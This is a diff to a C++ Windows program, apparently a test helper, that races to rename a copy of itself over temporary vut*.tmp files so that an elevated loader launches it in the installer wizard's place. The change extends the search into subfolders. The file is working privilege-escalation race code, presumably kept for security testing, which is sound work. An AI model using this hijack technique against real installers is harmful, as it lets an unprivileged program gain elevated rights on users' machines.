@@ -1,6 +1,6 @@
-// A hostile program of the user's own: it watches a folder and keeps renaming
-// a copy of itself over every vut*.tmp that appears there, hoping that the
-// loader starts it, elevated, in the wizard's place.
+// A hostile program of the user's own: it watches a folder and the folders in
+// it, and keeps renaming a copy of itself over every vut*.tmp that appears
+// there, hoping that the loader starts it, elevated, in the wizard's place.
 //
 //   renamer_host.exe <folder with trailing backslash> <milliseconds to run>
 //
@@ -49,6 +49,32 @@ int RecordHijack(const std::string& self)
     return 0;
 }
 
+// What `pattern` finds: files, or folders other than "." and "..", as full paths.
+std::set<std::string> Found(const std::string& pattern, bool folders)
+{
+    std::set<std::string> paths;
+    const std::string folder = pattern.substr(0, pattern.find_last_of('\\') + 1);
+    WIN32_FIND_DATAA found;
+    const HANDLE search = FindFirstFileA(pattern.c_str(), &found);
+    if (search == INVALID_HANDLE_VALUE)
+        return paths;
+    do {
+        const bool folderFound = (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) != 0;
+        if (folderFound == folders && found.cFileName[0] != '.')
+            paths.insert(folder + found.cFileName + (folders ? "\\" : ""));
+    } while (FindNextFileA(search, &found));
+    FindClose(search);
+    return paths;
+}
+
+// `folder` and the folders in it, where a loader may make its own.
+std::set<std::string> Folders(const std::string& folder)
+{
+    std::set<std::string> places = Found(folder + "*", true);
+    places.insert(folder);
+    return places;
+}
+
 } // namespace
 
 int WINAPI WinMain(HINSTANCE, HINSTANCE, LPSTR, int)
@@ -61,7 +87,6 @@ int WINAPI WinMain(HINSTANCE, HINSTANCE, LPSTR, int)
     const std::string folder = __argv[1];
     const DWORD runMs = static_cast<DWORD>(std::strtoul(__argv[2], nullptr, 10));
     const std::string bait = folder + "renamer-" + std::to_string(GetCurrentProcessId()) + ".exe";
-    const std::string pattern = folder + "vut*.tmp";
 
     // Every name seen is hammered until a rename over it lands; the folder
     // is looked at again now and then for new names.
@@ -72,16 +97,12 @@ int WINAPI WinMain(HINSTANCE, HINSTANCE, LPSTR, int)
         if (round % 32 == 0) {
             // A name taken and since gone may come back as the next file's.
             std::set<std::string> present;
-            WIN32_FIND_DATAA found;
-            const HANDLE search = FindFirstFileA(pattern.c_str(), &found);
-            if (search != INVALID_HANDLE_VALUE) {
-                do {
-                    const std::string target = folder + found.cFileName;
+            for (const std::string& place : Folders(folder)) {
+                for (const std::string& target : Found(place + "vut*.tmp", false)) {
                     present.insert(target);
                     if (!taken.count(target))
                         targets.insert(target);
-                } while (FindNextFileA(search, &found));
-                FindClose(search);
+                }
             }
             for (auto name = taken.begin(); name != taken.end();)
                 name = present.count(*name) ? std::next(name) : taken.erase(name);
